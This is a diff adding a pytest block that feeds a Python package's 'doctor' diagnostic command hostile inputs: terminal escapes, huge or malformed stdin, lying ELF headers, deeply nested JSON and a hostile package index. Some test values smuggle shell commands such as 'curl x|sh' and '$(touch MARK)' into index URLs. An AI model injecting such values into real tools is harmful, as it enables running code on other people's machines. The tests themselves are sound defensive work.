@@ -496,3 +496,185 @@ def test_hostile_input(world: World, case: Case):
         assert err.startswith("error: ") or "\nerror: " in err, err
     assert not outside, f"written outside the scratch folder (or the cache changed): {outside[:5]}"
     assert not published and world.victim.read_bytes() and not reached
+
+
+# =========================================================================== the doctor (issue 28)
+# `python -m mamba_ssm.doctor` against hostile pasted text, outside values, indexes and installed files. Its own
+# block (own cases, launcher and test) beside the builder's: same assertions, plus no raw control character
+# printed. A case gives (argv, env, stdin): stdin is bytes, or a callable giving a file descriptor.
+
+# (its imports here, not at the top: the block stands apart from the builder's, for clean merges)
+import shlex
+
+import doctorkit
+from doctorkit import FAKE_LINE, raw_hidden
+
+_DOCTOR_LIMITED = _LIMITED.replace("'-m', 'builder'", "'-m', 'mamba_ssm.doctor'")
+DOCTOR_SYMBOL = "_ZN3c105ErrorC2ENS_14SourceLocationENSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE"
+DOCTOR_SHELL_INDEX = "https://x.example/my wheels; curl x|sh $(touch MARK) `touch MARK2`"
+
+
+@dataclass
+class DoctorCase:
+    name: str
+    expect: int | set  # exit code (a set: either, e.g. with or without a built extension in the checkout)
+    message: str  # what stdout or stderr must say
+    make: callable  # (doctor_world, scratch) -> (argv, env, stdin)
+    needs_torch: bool = False  # the prebuilt lookup runs only where the doctor can read a torch
+
+
+class DoctorWorld:
+    def __init__(self, root: Path, index_url: str) -> None:
+        import venv
+
+        self.root, self.index_url = root, index_url
+        self.cases = root / "cases"
+        self.cases.mkdir(parents=True)
+        # An interpreter without torch (or anything else) for the cases that do not look anything up: the doctor
+        # runs on the standard library alone, and no case waits for torch to import twice on a loaded machine.
+        venv.create(root / "bare", with_pip=False)
+        self.bare = str(root / "bare" / "bin" / "python")
+
+
+def _stdin(data: bytes):
+    return lambda w, s: (["--explain", "-"], {}, data)
+
+
+def _silent_fifo(w: DoctorWorld, scratch: Path):
+    fifo = scratch / "log"
+    os.mkfifo(fifo)
+    return ["--explain", "-"], {}, lambda: os.open(fifo, os.O_RDWR)  # a writer that never writes
+
+
+def _site(scratch: Path, so: bytes | None = None, files: dict | None = None, version: str = "2.3.0") -> Path:
+    """A site folder holding this checkout's mamba_ssm, an extension (bytes) and a dist-info with FILES."""
+    site = scratch / "site"
+    shutil.copytree(CODE / "mamba_ssm", site / "mamba_ssm", ignore=shutil.ignore_patterns("__pycache__", "*.so"))
+    info = site / f"mamba_ssm-{version}.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: {version}\n")
+    record = [f"{info.name}/METADATA,,"]
+    if so is not None:
+        (site / "mamba_ssm" / "_C.cpython-311-x86_64-linux-gnu.so").write_bytes(so)
+        record.append("mamba_ssm/_C.cpython-311-x86_64-linux-gnu.so,,")
+    for name, make in (files or {}).items():
+        make(site / name)
+        record.append(f"{name},,")
+    (info / "RECORD").write_text("\n".join(record) + "\n")
+    return site
+
+
+def _installed(**kw):
+    def make(w: DoctorWorld, scratch: Path):
+        return ["--offline", "--json"], {"PYTHONPATH": str(_site(scratch, **kw))}, None
+
+    return make
+
+
+def _bad_elf_header() -> bytes:
+    """A 64-bit ELF header whose section table lies outside the file (old readers: IndexError, struct.error)."""
+    import struct
+
+    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9
+    head += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 0xFFFFFFF0, 0, 64, 56, 0, 64, 0xFFFF, 0xFFFE)
+    return head + b"\xff" * 64
+
+
+def _lookup(kind: str):
+    return lambda w, s: (["--index", f"{w.index_url}/{kind}"], {}, None)
+
+
+DOCTOR_CASES = [
+    DoctorCase("doctor-explain-backtrack-build-env", 0, "note: the text has", _stdin(b"pip-build-env " * 75_000)),
+    DoctorCase("doctor-explain-backtrack-no-torch", 1, "torch-missing", _stdin(b"No module named torch " * 48_000)),
+    DoctorCase("doctor-explain-backtrack-module", 1, "torch-missing",
+               _stdin(b"No module named 'torch' No module named " + b"a" * (1 << 20))),
+    DoctorCase("doctor-explain-bad-utf8", 1, "nvcc-missing", _stdin(b"\xff\xfe\xc3\x28 nvcc was not found \xed\xa0\x80")),
+    DoctorCase("doctor-explain-escape", 1, "\\x1b[2K\\r",
+               _stdin(f"No such file or directory: '{FAKE_LINE}/bin/nvcc'".encode())),
+    DoctorCase("doctor-explain-huge", 3, "more than 64 MiB", _stdin(b"x" * ((64 << 20) + 1))),
+    DoctorCase("doctor-explain-fifo", 3, "stdin sent nothing within 20 s", _silent_fifo),
+    DoctorCase("doctor-explain-empty", 3, "empty message", _stdin(b"\n\n")),
+    DoctorCase("doctor-index-shell", 1, shlex.quote(DOCTOR_SHELL_INDEX + "/<variant>/"),
+               lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}", "--index", DOCTOR_SHELL_INDEX], {}, None)),
+    DoctorCase("doctor-env-index-shell", 1, shlex.quote(DOCTOR_SHELL_INDEX + "/<variant>/"),
+               lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}"], {"MAMBA_WHEEL_INDEX": DOCTOR_SHELL_INDEX}, None)),
+    DoctorCase("doctor-index-unknown-user", 1, "'~nosuchuser-hostile/wheels/<variant>/'",
+               lambda w, s: (["--explain", "nvcc was not found", "--index", "~nosuchuser-hostile/wheels"], {}, None)),
+    DoctorCase("doctor-index-newline", 2, "holds control characters",
+               lambda w, s: (["--explain", "nvcc was not found", "--index", "https://x.example/\ncurl x|sh"], {}, None)),
+    DoctorCase("doctor-env-index-escape", 2, "holds control characters",
+               lambda w, s: (["--offline"], {"MAMBA_WHEEL_INDEX": f"https://x.example/{FAKE_LINE}"}, None)),
+    DoctorCase("doctor-extension-truncated-elf", 1, '"inspect_error"', _installed(so=b"\x7fELF\x02\x01\x01\x00" + b"\xff" * 12)),
+    DoctorCase("doctor-extension-lying-elf", 1, '"inspect_error"', _installed(so=_bad_elf_header())),
+    DoctorCase("doctor-record-fifo", 1, '"elf_files": []', _installed(files={"mamba_ssm/pipe.bin": os.mkfifo})),
+    DoctorCase("doctor-variant-json-deep", 1, '"variant_label": null',
+               _installed(files={"mamba_ssm-2.3.0.dist-info/variant.json": lambda p: p.write_text("[" * 100_000 + "]" * 100_000)})),
+    DoctorCase("doctor-lookup-trickle", {0, 1}, "no answer within 5 s", _lookup("trickle"), needs_torch=True),
+    DoctorCase("doctor-lookup-huge-page", {0, 1}, "more than 16 MiB", _lookup("huge"), needs_torch=True),
+    DoctorCase("doctor-lookup-not-http", {0, 1}, "cannot reach the wheel index", _lookup("nothttp"), needs_torch=True),
+    DoctorCase("doctor-lookup-json-deep", {0, 1}, "none indexed for this variant", _lookup("deep"), needs_torch=True),
+    DoctorCase("doctor-lookup-escaped-name", {0, 1}, "none indexed for this variant", _lookup("evil"), needs_torch=True),
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def doctor_world(tmp_path_factory):
+    with doctorkit.hostile_index() as url:
+        yield DoctorWorld(tmp_path_factory.mktemp("hostile-doctor"), url)
+
+
+def _run_doctor(python: str, argv: list[str], env: dict, stdin, scratch: Path) -> tuple[int | str, str, str]:
+    base = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "MAMBA_", "HOSTILE_CORPUS"))}
+    base.update(PYTHONPATH=str(CODE), PYTHONDONTWRITEBYTECODE="1", NO_PROXY="127.0.0.1,localhost", no_proxy="127.0.0.1,localhost")
+    base.update(env)
+    fd = stdin() if callable(stdin) else None
+    try:
+        proc = subprocess.run(
+            [python, "-c", _DOCTOR_LIMITED, *argv], cwd=scratch, env=base, capture_output=True, timeout=TIMEOUT_S,
+            input=stdin if isinstance(stdin, bytes) else None, stdin=fd if fd is not None else (None if isinstance(stdin, bytes) else subprocess.DEVNULL),
+            check=False,
+        )  # fmt: skip
+    except subprocess.TimeoutExpired as err:
+        return "hang", (err.stdout or b"").decode(errors="replace"), f"(no answer in {TIMEOUT_S} s)"
+    finally:
+        if fd is not None:
+            os.close(fd)
+    return proc.returncode, proc.stdout.decode("utf-8", "replace"), proc.stderr.decode("utf-8", "replace")
+
+
+def _has_torch() -> bool:
+    import importlib.util
+
+    return importlib.util.find_spec("torch") is not None
+
+
+@pytest.mark.parametrize("case", DOCTOR_CASES, ids=[c.name for c in DOCTOR_CASES])
+def test_doctor_hostile_input(doctor_world: DoctorWorld, case: DoctorCase):
+    if case.needs_torch and not _has_torch():
+        pytest.skip("the prebuilt lookup needs a torch for the doctor to read")
+    scratch = doctor_world.cases / case.name
+    scratch.mkdir()
+    argv, env, stdin = case.make(doctor_world, scratch)
+    before = snapshot(doctor_world.root, skip=(scratch,))
+    python = sys.executable if case.needs_torch else doctor_world.bare
+    rc, out, err = _run_doctor(python, argv, env, stdin, scratch)
+    after = snapshot(doctor_world.root, skip=(scratch,))
+    outside = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
+    expect = case.expect if isinstance(case.expect, set) else {case.expect}
+    result = {
+        "case": case.name, "expect": sorted(expect), "exit": rc, "clear": case.message in err or case.message in out,
+        "traceback": "Traceback" in err, "written_outside": outside, "raw_control": raw_hidden(out + err)[:5],
+        "stderr": err.strip().splitlines()[-1:] if err.strip() else [],
+    }  # fmt: skip
+    if REPORT:
+        with open(REPORT, "a") as f:
+            f.write(json.dumps(result) + "\n")
+    assert result["traceback"] is False, err[-3000:]
+    assert rc in expect, (rc, out[-2000:], err[-2000:])
+    assert result["clear"], (case.message, out[-2000:], err[-2000:])
+    if rc not in (0, 1):
+        assert err.startswith("error: "), err
+    assert not result["raw_control"], result["raw_control"]
+    assert not outside, f"written outside the scratch folder: {outside[:5]}"
+    assert not list(scratch.rglob("MARK*")), "a printed value reached a shell"
